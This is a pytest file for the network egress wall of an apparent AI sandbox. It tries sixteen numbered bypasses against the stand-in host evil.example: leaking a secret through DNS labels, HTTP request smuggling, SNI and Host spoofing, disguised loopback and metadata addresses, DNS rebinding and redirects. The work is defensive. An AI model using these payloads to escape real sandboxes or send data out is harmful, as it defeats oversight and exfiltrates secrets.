# SPDX-License-Identifier: Apache-2.0
"""Attacks 92 to 107 on the network wall, each with its control: the same thing, allowed by a rule, works.

The servers that must not be reached are there and answer (test_world.py); their logs say whether anything arrived.
"""
import contextlib
import json
import os
import signal

import box
import names
import pytest
from inbox import NO_NAME, NO_WAY, inside, refused, rows, violations, whoami

EVIL, EVIL6 = names.address("evil.example"), names.address("evil.example", 6)
GOOD, GOOD6 = names.address("example.com"), names.address("example.com", 6)
WEB = ("example.com:443", "example.com:80")
GATEWAY, OWN = "192.0.0.1", "192.0.0.2"


def test_092_direct_tcp_udp_quic(world, project):
    acts = ["https evil.example 443 evil.example evil.example", "http evil.example 80 evil.example", "connect evil.example 7000", "udp evil.example 7000", "quic evil.example"]
    direct = [act.replace("evil.example", EVIL, 1) for act in acts]
    with world.watch() as seen:
        found, result = inside(world, project, *acts, *direct, f"udp {GOOD} 7000", f"quic {GOOD}", "quic example.com", f"http {GOOD} 8080 example.com", net=WEB)
    refused(found[:5], NO_NAME)
    refused(found[5:])
    seen.nothing_bad()
    assert not seen.udp and not seen.web
    assert any("evil.example" in what for what in violations(result)), result["violations"]
    rules = ["evil.example:443", "evil.example:80", "evil.example:7000", "evil.example:7000/udp", "evil.example:443/udp"]
    with world.watch() as seen:
        found, result = inside(world, project, *acts, net=rules)
    assert not [act for act in found if "error" in act], found
    assert whoami(found[0])["host"] == "evil.example" and seen.reached(names.EVIL)
    assert not violations(result), result["net"]


def test_092_quic_is_refused_at_once_where_tcp_is_allowed(world, project):
    """Else a browser waits before it falls back."""
    found, _ = inside(world, project, "quic example.com", "https example.com 443 example.com example.com", net=WEB)
    refused(found[:1], NO_WAY, 1)
    assert whoami(found[1])["host"] == "example.com"


def test_093_ipv6(world, project):
    acts = [f"https {EVIL6} 443 evil.example evil.example", f"http {EVIL6} 80 evil.example", f"connect {EVIL6} 7000", f"udp {EVIL6} 7000", f"quic {EVIL6}",
            f"http ::ffff:{EVIL} 80 evil.example", f"http {names.METADATA6} 80 x", f"http {GOOD6} 8080 example.com", "http fe80::1%lo 80 x"]
    with world.watch() as seen:
        found, _ = inside(world, project, *acts, net=WEB)
    refused(found)
    seen.nothing_bad()
    found, _ = inside(world, project, "https only6.example.com 443 only6.example.com only6.example.com", net=("only6.example.com:443",))
    assert whoami(found[0])["address"] == names.address("only6.example.com", 6)


@pytest.mark.parametrize("mode", ["none", "loopback"])
def test_094_no_route_without_a_broker(world, project, mode):
    with world.watch() as seen:
        found, result = inside(world, project, "routes", f"connect {EVIL} 443", f"connect {EVIL6} 443", f"udp {EVIL} 7000", "resolve example.com", net=mode)
    assert found[0]["default"] == [] and set(found[0]["devices"]) <= {"lo"}
    refused(found[1:4], NO_WAY)
    refused(found[4:], NO_NAME | {"AGAIN"})
    seen.nothing_bad()
    assert not seen.asked() and violations(result)


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children", encoding="ascii") as f:
        direct = list(map(int, f.read().split()))
    return direct + [grandchild for child in direct for grandchild in children(child)]


def brokers(pid):
    """Processes of aisbx-net below this one."""
    found = []
    for child in children(pid):
        try:
            with open(f"/proc/{child}/stat", encoding="ascii") as f:
                _, name, state = f.read().split()[:3]
            if name == "(aisbx-net)" and state != "Z":
                found.append(child)
        except OSError:
            continue
    return found


KEEP_TRYING = """
import json, subprocess, sys
for line in sys.stdin:
    done = subprocess.run([sys.executable, "-B", "inside.py", *line.split()], stdout=subprocess.PIPE)
    sys.stdout.write(done.stdout.decode())
    sys.stdout.flush()
"""


class Talk:
    """A box that runs acts as they are told: talk("resolve example.com")."""

    def __init__(self, world, project, net, options=(), **more):
        self.p = world.popen(*world.box_words("/usr/bin/python3", "-c", KEEP_TRYING, net=net, json_output=False, options=["-i", *options]), cwd=project,
                             stdin=-1, text=True, **more)

    def __call__(self, *acts):
        self.p.stdin.write(" , ".join(acts) + "\n")
        self.p.stdin.flush()
        line = self.p.stdout.readline()
        return json.loads(line) if line else None

    def __enter__(self):
        return self

    def __exit__(self, kind, *_):
        if kind:
            self.p.kill()
        with contextlib.suppress(OSError):
            self.p.stdin.close()
        try:
            self.p.wait(timeout=60)
        finally:
            self.p.kill()
            self.p.stdout.close()
            self.p.stderr.close()


def test_094_a_broker_that_dies_leaves_nothing_open(world, project):
    act = "https example.com 443 example.com example.com"
    with Talk(world, project, WEB) as talk:
        assert whoami(talk(act)[0])["host"] == "example.com"
        found = brokers(talk.p.pid)
        assert found, "there is no broker"
        with world.watch() as seen:
            for pid in found:
                os.kill(pid, signal.SIGKILL)
            box.wait_until(lambda: not brokers(talk.p.pid), what="the broker's end")
            after = None
            try:
                after = talk(act, f"connect {GOOD} 443", f"connect {EVIL} 443", f"http {EVIL} 80 evil.example", "resolve evil.example")
            except BrokenPipeError:
                pass
            if after:  # or the run has ended with it
                assert not [a for a in after if "whoami" in a or "peer" in a], after
        seen.nothing_bad()
        assert not seen.web


def is_there(pid):
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as f:
            return f.read().split()[2] != "Z"
    except OSError:
        return False


@pytest.mark.parametrize("how", ["end", "kill"])
def test_094_the_broker_ends_with_its_box(world, project, how):
    """Also when the supervisor is killed; nothing of it stays."""
    with Talk(world, project, WEB) as talk:
        talk("resolve example.com")
        found = brokers(talk.p.pid)
        assert found
        if how == "kill":
            talk.p.kill()
    box.wait_until(lambda: not [pid for pid in found if is_there(pid)], what="the broker's end")


def test_095_labels_never_leave(world, project):
    secret = "c2VjcmV0-secret"
    foreign = [f"{secret}.evil.example", f"{secret}.example.com", f"{secret}.www.example.com", f"a.b.c.{secret}.evil.example", f"{secret}.corp.example"]
    acts = [f"dns {name} {kind} {how}" for name in foreign for kind in ("A", "TXT") for how in ("", "tcp")]
    acts += [f"dns {foreign[0]} {kind} edns" for kind in ("AAAA", "MX", "SRV", "CNAME", "HTTPS", "ANY")]
    acts += [f"dns {foreign[0]} A at={where}" for where in (EVIL, names.RESOLVER, "8.8.8.8", "127.0.0.1")]  # evil's own server
    with world.watch() as seen:
        found, result = inside(world, project, *acts, f"resolve {secret}", f"resolve {foreign[0]}", net=WEB)
    for act in found[:-6]:
        assert act.get("code") == "NXDOMAIN" and not act["answers"] and act["seconds"] < 3, act
    for act in found[-6:-2]:
        assert act.get("code") == "NXDOMAIN" or act.get("error") in NO_WAY, act
    refused(found[-2:], NO_NAME)
    seen.nothing_bad()
    assert not [name for name in seen.asked() if secret.lower() in name]
    assert any(what.startswith("look up") and foreign[0].lower() in what.lower() for what in violations(result)), result["violations"]
    with world.watch() as seen:  # control
        inside(world, project, f"dns {foreign[0]} A", net=("*.evil.example:443",))
    assert foreign[0].lower() in seen.asked()


def test_095_how_a_name_is_spelled_says_nothing(world, project):
    """Upper and lower case would be a bit for each letter; other types of an allowed name are not asked for."""
    before = len((world.dir / "log/dns").read_text())
    inside(world, project, "dns eXaMpLe.CoM A", "dns ExAmPlE.cOm AAAA", "dns example.com TXT", "dns example.com MX", net=WEB)
    log = (world.dir / "log/dns").read_text()[before:]
    assert "xample" not in log.replace("example.com", "") and "eXaM" not in log and "ExAm" not in log
    assert "query[TXT]" not in log and "query[MX]" not in log


def test_096_nul_in_names(world, project):
    def wire(*labels):
        return b"".join(bytes([len(label)]) + label for label in labels).hex() + "00"

    bad = [wire(b"example.com\0", b"evil", b"example"), wire(b"example", b"com\0"), wire(b"example.com"), wire(b"evil\0", b"example", b"com"), wire(b"example", b"com\0.evil.example")]
    with world.watch() as seen:
        found, _ = inside(world, project, *(f"dns {name} A hex" for name in bad), "hello example.com 443 example.com!evil.example nul", "hello example.com 443 example.com! nul",
                          r"raw example.com 80 GET\x20/whoami\x20HTTP/1.1\r\nHost:\x20example.com\x00.evil.example\r\nConnection:\x20close\r\n\r\n",
                          r"raw example.com 80 GET\x20/whoami\x20HTTP/1.1\r\nHost:\x20example.com\x00\r\nConnection:\x20close\r\n\r\n",
                          f"dns {wire(b'example', b'com')} A hex", "hello example.com 443 example.com",
                          r"raw example.com 80 GET\x20/whoami\x20HTTP/1.1\r\nHost:\x20example.com\r\nConnection:\x20close\r\n\r\n", net=WEB)
    for act in found[:5]:
        assert act.get("code") in ("NXDOMAIN", "FORMERR", "REFUSED") and not act["answers"], act
    for act in found[5:7]:
        assert act.get("back") in ("alert", "nothing") or act.get("error") in NO_WAY, act
    for act in found[7:9]:
        assert act.get("error") in NO_WAY or '"host"' not in act["answer"], act
    seen.nothing_bad()
    assert found[9]["answers"] and found[10]["back"] == "handshake" and '"host":"example.com"' in found[11]["answer"]  # controls
    assert len(seen.web) == 1, seen.web


def test_097_disguises(world, project):
    """A trailing dot and upper case are the same name. An address is not a name, however it is written, and none of these is an allowed one."""
    addresses = ["127.1", "0x7f.1", "2130706433", "0177.0.0.1", "127.0.0.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::1", f"::ffff:{names.PRIVATE}",
                 f"::ffff:{names.METADATA}", "0", "::", "fe80::1%lo"]
    with world.watch() as seen:
        found, _ = inside(world, project, *(f"http {a} 80 example.com" for a in addresses), *(f"dns {a} A" for a in addresses[:5]), net=WEB)
    refused(found[:len(addresses)], NO_WAY | NO_NAME | {"EINVAL", "EADDRNOTAVAIL", "ENODEV"})
    for act in found[len(addresses):]:
        assert act["code"] in ("NXDOMAIN", "FORMERR", "REFUSED") and not act["answers"], act
    seen.nothing_bad()
    assert not seen.web
    for host in ("127.1", "0x7f.1", "evil.example", "example.com.evil.example", "example.com:81", "example.com@evil.example", "[::1]", ""):
        found, _ = inside(world, project, f"http example.com 80 {host or '-'}", net=WEB)
        assert "whoami" not in found[0], (host, found)
    found, _ = inside(world, project, *(f"http {name} 80 {name}" for name in ("example.com", "example.com.", "EXAMPLE.com", "Example.Com.")), "http example.com 80 example.com:80",
                      "hello example.com 443 example.com upper", net=WEB)
    assert [whoami(act)["address"] for act in found[:5]] == [GOOD] * 5
    assert found[5]["back"] == "handshake"


@pytest.mark.parametrize("rule", ["127.1:80", "0x7f.1:80", "2130706433:80", "127.0.0.1:80", "[::1]:80", "[::ffff:127.0.0.1]:80", "0.0.0.0:80", "localhost:80", "169.254.169.254:80",
                                  "exa mple.com:80", "example..com:80", "-:80", "example.com:0", "example.com:65536", "example.com:x", ".com:80", "*.*:80", "a.*.com:80"])
def test_097_rules_that_are_none(world, project, rule):
    """The host's own loopback has a rule of its own, net:host:PORT; metadata has none. What is accepted may not lead there."""
    with world.watch() as seen:
        done = world.run(*world.box_words("/usr/bin/python3", "-B", "inside.py", "http", rule.rpartition(":")[0].strip("[]"), "80", "x", net=rule), cwd=project)
    said = json.loads(done.stdout)
    assert done.returncode == 125 and said["status"] == "error", said
    assert rule.split(":")[0].strip("[") in said["error"]["text"] or "rule" in said["error"]["text"], said
    assert not seen.web and not seen.tcp


def test_098_sni(world, project):
    acts = ["hello example.com 443 evil.example", "hello example.com 443 -", "hello example.com 443 www.example.com", "hello example.com 443 example.com ech",
            "hello example.com 443 evil.example bytes", "hello example.com 443 evil.example records", "hello example.com 443 notexample.com", "hello example.com 443 example.com.evil.example",
            r"raw example.com 443 GET\x20/whoami\x20HTTP/1.1\r\nHost:\x20evil.example\r\n\r\n", f"hello {EVIL} 443 evil.example", f"hello {EVIL} 443 example.com"]
    good = ["hello example.com 443 example.com", "hello example.com 443 example.com bytes", "https example.com 443 example.com example.com"]
    with world.watch() as seen:
        found, result = inside(world, project, *acts, *good, net=WEB)
    for act in found[:len(acts)]:
        assert act.get("error") in NO_WAY or act.get("back") in ("alert", "nothing") or act.get("answer") == "", act
        assert act["seconds"] < 3, act
    assert [act["back"] for act in found[len(acts):-1]] == ["handshake"] * 2 and whoami(found[-1])["sni"] == "example.com"
    seen.nothing_bad()
    assert len(seen.web) == 1
    assert rows(result, act="tcp", verdict="refused", port=443), result["net"]


def test_099_host(world, project):
    def request(*lines):
        return "\\r\\n".join(line.replace(" ", "\\x20") for line in lines) + "\\r\\n\\r\\n"

    one = "Host: example.com"
    bad = [request("GET /whoami HTTP/1.1", "Host: evil.example"), request("GET /whoami HTTP/1.1", one, "Host: evil.example"), request("GET /whoami HTTP/1.1", "Host: evil.example", one),
           request("GET http://evil.example/whoami HTTP/1.1", one), request("GET /whoami HTTP/1.1"), request("GET /whoami HTTP/1.0"), request("GET /whoami HTTP/1.1", "Host : evil.example", one),
           request("GET /whoami HTTP/1.1", one + ", evil.example"), request("GET /whoami HTTP/1.1", "X: y", " Host: evil.example", one), request("CONNECT evil.example:80 HTTP/1.1", one)]
    acts = [f"raw example.com 80 {text}" for text in bad]
    with world.watch() as seen:
        found, result = inside(world, project, *acts, "two_requests example.com 80 example.com evil.example", "two_requests example.com 80 example.com www.example.com", net=WEB)
    for act in found[:len(acts)]:
        assert act.get("error") in NO_WAY or '"host"' not in act["answer"], act
    for act in found[len(acts):]:
        assert '"host":"example.com"' in act["first"] and '"host"' not in act["second"], act
    seen.nothing_bad()
    assert {row["host"] for row in seen.web} <= {"example.com", ""}, seen.web
    assert rows(result, act="tcp", verdict="refused", port=80)
    found, _ = inside(world, project, "two_requests example.com 80 example.com example.com", "two_requests www.example.com 80 example.com www.example.com", net=[*WEB, "www.example.com:80"])
    assert '"host":"example.com"' in found[0]["second"], "two requests over one connection"
    assert '"host":"www.example.com"' in found[1]["second"] or "whoami" in found[1]["second"] or found[1]["second"], found


@pytest.mark.parametrize("port", [8080, 443])
def test_099_host_on_other_ports(world, project, port):
    """What a web server takes for a request is one, whatever comes before it and whatever its method is called."""
    rest = "\\x20/whoami\\x20HTTP/1.1\\r\\nHost:\\x20{}\\r\\nConnection:\\x20close\\r\\n\\r\\n"
    starts = ["GET", "\\r\\nGET", "\\nGET", "\\r\\n\\r\\nGET", "X-Y", "GET_X", "M-SEARCH"]
    with world.watch() as seen:
        found, _ = inside(world, project, *(f"raw example.com {port} {start}{rest.format('evil.example')}" for start in starts),
                          f"raw example.com {port} PRI\\x20*\\x20HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", f"http example.com {port} example.com:{port}", net=(f"example.com:{port}",))
    for start, act in zip(starts, found):
        assert act.get("error") in NO_WAY or "200 OK" not in act["answer"], (start, act)
    assert not [row for row in seen.web if "evil" in row["host"]], seen.web
    assert found[-1]["status"] == (200 if port == 8080 else 400), "control: by the server"


def post(*headers, body=""):
    lines = ["POST /whoami HTTP/1.1", "Host: example.com", *headers]
    return "\\r\\n".join(line.replace(" ", "\\x20") for line in lines) + "\\r\\n\\r\\n" + body.replace(" ", "\\x20").replace("\r\n", "\\r\\n")


SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"


@pytest.mark.parametrize("headers, body", [
    (("Content-Length: 4", "Transfer-Encoding: chunked"), "0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding: chunked", f"Content-Length: {len(SMUGGLED) + 5}"), "0\r\n\r\n" + SMUGGLED),
    (("Content-Length: 0", "Content-Length: 50"), SMUGGLED),
    (("Content-Length: 0, 50",), SMUGGLED),
    (("Content-Length: +0",), SMUGGLED),
    (("Content-Length: 0x0",), SMUGGLED),
    (("Content-Length: -1",), SMUGGLED),
    (("Transfer-Encoding: xchunked",), SMUGGLED),
    (("Transfer-Encoding: chunked, identity",), "0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding: identity", "Transfer-Encoding: chunked"), "0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding : chunked",), "0\r\n\r\n" + SMUGGLED),
    (("X: y\\n Transfer-Encoding: chunked",), "0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding: chunked",), "0x0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding: chunked",), "fffffffffffffffff\r\n" + SMUGGLED),
    (("Transfer-Encoding:\\x0bchunked",), "0\r\n\r\n" + SMUGGLED),
    (("Transfer-Encoding: chunked",), "0\r\n\r\n" + SMUGGLED),  # nothing is wrong but the second request's host
])
def test_100_smuggling(world, project, headers, body):
    with world.watch() as seen:
        found, _ = inside(world, project, f"raw example.com 80 {post(*headers, body=body)}", net=WEB)
    answer = found[0].get("answer", "")
    assert "evil" not in answer, found
    if body != "0\r\n\r\n" + SMUGGLED or headers != ("Transfer-Encoding: chunked",):
        assert found[0].get("error") in NO_WAY or found[0].get("reset") or answer == "" or answer.startswith("HTTP/1.1 400"), found
    assert not [row for row in seen.web if "smuggled" in row["path"] or "evil" in row["host"]], seen.web


def test_100_control(world, project):
    """Bodies of both kinds pass, and so does a request after them."""
    again = "GET /whoami HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n"
    found, _ = inside(world, project, f"raw example.com 80 {post('Content-Length: 5', body='hello' + again)}",
                      f"raw example.com 80 {post('Transfer-Encoding: chunked', body='5' + chr(13) + chr(10) + 'hello' + chr(13) + chr(10) + '0' + chr(13) + chr(10) * 1 + chr(13) + chr(10) + again)}",
                      net=WEB)
    for act in found:
        assert act["answer"].count("HTTP/1.1 200") == 2, act


FORBIDDEN = [name for name in names.TRAPS if name != "to-both.example"]


def test_101_allowed_names_that_lead_inside(world, project):
    net = [f"{name}:{port}" for name in [*names.TRAPS, "alias-private.example"] for port in (80, 443)]
    with world.watch() as seen:
        found, result = inside(world, project, *(f"http {name} 80 {name}" for name in [*FORBIDDEN, "alias-private.example"]), *(f"dns {name} {kind}" for name in FORBIDDEN for kind in ("A", "AAAA")),
                               "resolve to-both.example", "http to-both.example 80 to-both.example", net=net)
    n = len(FORBIDDEN) + 1
    refused(found[:n])
    for act in found[n:-2]:
        assert not act["answers"], act
    assert found[-2]["addresses"] == ["93.184.216.34"] and whoami(found[-1])["address"] == "93.184.216.34"
    seen.nothing_bad()
    assert not seen.reached({"127.0.0.1", "::1"}) and len(seen.web) == 1, seen.web
    assert len(rows(result, verdict="refused")) >= n, "each is in the record"
    told = " ".join(v["rule"] for v in violations(result).values())
    assert "private" in told and "loopback" in told and "metadata" in told, told


def test_101_control(world, project):
    """A private range by its rule; a name that leads there needs both."""
    with world.watch() as seen:
        found, _ = inside(world, project, f"http {names.PRIVATE} 80 x", "http to-private.example 80 to-private.example", f"http {names.PRIVATE} 8080 x", "http to-private172.example 80 x",
                          net=("10.0.0.0/8:80", "to-private.example:80", "to-private172.example:80"))
    assert whoami(found[0])["host"] == "x" and whoami(found[1])["host"] == "to-private.example"
    refused(found[2:])
    assert {row["address"] for row in seen.tcp} == {names.PRIVATE}


def test_101_metadata_by_a_wide_rule(world, project):
    """A rule for every name, or for all private addresses, is none for a cloud's metadata."""
    acts = [f"http {names.METADATA} 80 x", f"http {names.METADATA6} 80 x", "http to-metadata.example 80 to-metadata.example", "http to-metadata6.example 80 to-metadata6.example"]
    with world.watch() as seen:
        found, _ = inside(world, project, *acts, "http example.com 80 example.com", net=("*:80",))
    refused(found[:-1])
    assert whoami(found[-1])["host"] == "example.com"
    seen.nothing_bad()


def test_102_rebinding(world, project):
    """The name is public at the first look and loopback at the second, in turn: whatever was checked is what is dialled."""
    public, inner = names.REBINDING_ADDRESSES
    tries = [f"http {names.REBINDING} 80 {names.REBINDING}", f"resolve {names.REBINDING}"] * 4
    for start in range(2):  # with either first
        with world.watch() as seen:
            found, _ = inside(world, project, *tries, f"http {inner} 80 {names.REBINDING}", f"http {public} 80 {names.REBINDING}", net=(f"{names.REBINDING}:80",))
        assert not seen.reached({inner}), (start, seen.web)
        for act in found[:-2]:
            assert act.get("error") or act.get("addresses") == [public] or act["whoami"]["address"] == public, act
        assert {row["address"] for row in seen.web} <= {public}
        answers = [tuple(act["addresses"]) for act in found[1:-2:2] if "addresses" in act]
        assert len(set(answers)) <= 1, "stable within a box"
        assert "error" in found[-2]
        world.run("/usr/bin/python3", "-B", "inside.py", "dns", names.REBINDING, "A", cwd=project, check=True)
        if seen.web:
            break
    else:
        raise AssertionError("never reached, so this test tests nothing")


def test_103_redirect(world, project):
    curl = ["curl", "-sS", "-L", "--max-time", "30", "http://example.com/to-evil-plain", "https://example.com/to-evil"]
    with world.watch() as seen:
        result = world.box(*curl, net=WEB, cwd=project)
    assert result["exit_code"] != 0 and "evil" not in result["stdout"] and result["usage"]["wall_ms"] < 3000 * 2, result
    seen.nothing_bad()
    assert len(seen.web) == 2
    result = world.box(*curl, net=[*WEB, "evil.example:443", "evil.example:80"], cwd=project)
    assert result["exit_code"] == 0 and result["stdout"].count('"host":"evil.example"') == 2, result


def test_104_plain_http(world, project):
    """Also with the allowed name in the request: the address is not that name's."""
    acts = ["http evil.example 80 evil.example", f"http {EVIL} 80 evil.example", f"http {EVIL} 80 example.com", f"http {EVIL6} 80 example.com", "http other.evil.example 80 other.evil.example"]
    with world.watch() as seen:
        found, result = inside(world, project, *acts, net=WEB)
    refused(found)
    seen.nothing_bad()
    assert not seen.web
    assert violations(result)["look up evil.example"]["allow_with"].startswith("net:egress:evil.example:"), result["violations"]
    found, _ = inside(world, project, acts[0], net=("evil.example:80",))
    assert whoami(found[0])["host"] == "evil.example"


def test_105_host_loopback_and_abstract_sockets(world, project):
    acts = [f"connect {to} 7000" for to in ("127.0.0.1", "::1", "localhost", GATEWAY, OWN, "host.aisbx.internal", names.PRIVATE, "0.0.0.0")]
    acts += [f"http {GATEWAY} 80 example.com", f"abstract {names.ABSTRACT}", "udp 127.0.0.1 7000", f"udp {GATEWAY} 7000"]
    with world.watch() as seen:
        found, _ = inside(world, project, *acts, net=WEB)
    refused(found)
    seen.nothing_bad()
    assert not seen.tcp and not seen.udp and not seen.web
    outside = json.loads(world.run("/usr/bin/python3", "-B", "inside.py", "abstract", names.ABSTRACT, cwd=project, check=True).stdout)
    assert outside[0].get("connected"), "control: it is there"
    with world.watch() as seen:
        found, _ = inside(world, project, "connect host.aisbx.internal 7000", "connect host.aisbx.internal 8080", "connect 127.0.0.1 7000", net=("net:host:7000",))
    assert "error" not in found[0], found
    refused(found[1:])
    assert [row["address"] for row in seen.tcp] == ["127.0.0.1"]


def listeners(world):
    return set(world.run("sh", "-c", "cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" {print $2}'", check=True).stdout.split())


def test_106_another_boxes_broker(world, project, tmp_path):
    """Two boxes with different rules: neither gets what the other may have, and brokers listen nowhere but in their own boxes."""
    act = "https example.com 443 example.com example.com"
    before = listeners(world)
    with Talk(world, project, WEB) as talk:
        assert "whoami" in talk(act)[0]
        assert listeners(world) == before, "the broker listens where others can reach it"
        with world.watch() as seen:
            found, _ = inside(world, project, act, *(f"https {to} 443 example.com example.com" for to in (GOOD, GATEWAY, OWN, "127.0.0.1")), f"ports {GATEWAY} 1 1100",
                              "https api.example.org 443 api.example.org api.example.org", f"http {GATEWAY} 80 example.com", net=("api.example.org:443",))
        refused(found[:5])
        assert set(found[5]["open"]) <= {53, 443}, found[5]
        assert whoami(found[6])["host"] == "api.example.org"
        refused(found[7:])
        assert {row["host"] for row in seen.web} == {"api.example.org"}
        assert "whoami" in talk(act)[0], "the first is as it was"


LOAD = """
import json, subprocess, sys, threading, time, ssl, socket, os
evil, good, counts, lock = sys.argv[1], sys.argv[2], {}, threading.Lock()
def count(what):
    with lock: counts[what] = counts.get(what, 0) + 1
def fetch(to, name):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    with socket.create_connection((to, 443), 10) as s, c.wrap_socket(s, server_hostname=name) as t:
        t.sendall(f"GET /whoami HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return t.recv(100).startswith(b"HTTP/1.1 200")
def work(to, name):
    while not os.path.exists("stop"):
        try: count(name + (" ok" if fetch(to, name) else " not"))
        except OSError: count(name + " refused")
        time.sleep(0.002)
threads = [threading.Thread(target=work, args=a) for a in ((evil, "evil.example"), ("evil.example", "evil.example"), (good, "evil.example"), (good, "example.com"), ("example.com", "example.com"),
           ("api.example.org", "api.example.org"))]
[t.start() for t in threads]
print("started", flush=True)
while not os.path.exists("stop"):
    time.sleep(0.02)
    with lock: print(json.dumps(counts), flush=True)
[t.join() for t in threads]
print(json.dumps(counts), flush=True)
"""


def test_107_reload_under_load(world, project):
    """Rules come and go while connections are made: what no rule ever allowed never gets through, what one always allowed always does."""
    env = world.environment(project, XDG_STATE_HOME=str(project.parent / "state"))
    world.aisbx("create", "b", cwd=project, env=env, check=True)
    p = world.popen(box.aisbx(), "run", "--box", "b", "--net", WEB[0], "--", "/usr/bin/python3", "-c", LOAD, EVIL, GOOD, cwd=project, env=env, text=True)
    try:
        assert p.stdout.readline() == "started\n", p.stderr.read()
        counts = {}

        def until(key, more=3):
            """So many more of these."""
            first = counts.get(key, 0)
            while counts.get(key, 0) < first + more:
                line = p.stdout.readline()
                assert line, p.stderr.read()
                counts.update(json.loads(line))

        with world.watch() as seen:
            until("api.example.org refused")
            for _ in range(4):
                world.aisbx("allow", "net:egress:api.example.org:443", "--box", "b", cwd=project, env=env, check=True)
                until("api.example.org ok")
                world.aisbx("deny", "net:egress:api.example.org:443", "--box", "b", cwd=project, env=env, check=True)
                until("api.example.org refused")
                until("evil.example refused")
                until("example.com ok")
            world.aisbx("exec", "b", "--", "touch", "stop", cwd=project, env=env, check=True)
            out, err = p.communicate(timeout=60)
        counts.update(json.loads(out.splitlines()[-1]))
        seen.nothing_bad()
        assert counts.get("evil.example ok", 0) == 0 and counts.get("evil.example not", 0) == 0, counts
        assert counts.get("example.com refused", 0) == 0, counts
        assert not [row for row in seen.web if row["sni"] not in ("example.com", "api.example.org")]
        assert p.returncode == 0, err
    finally:
        p.kill()
        p.communicate()
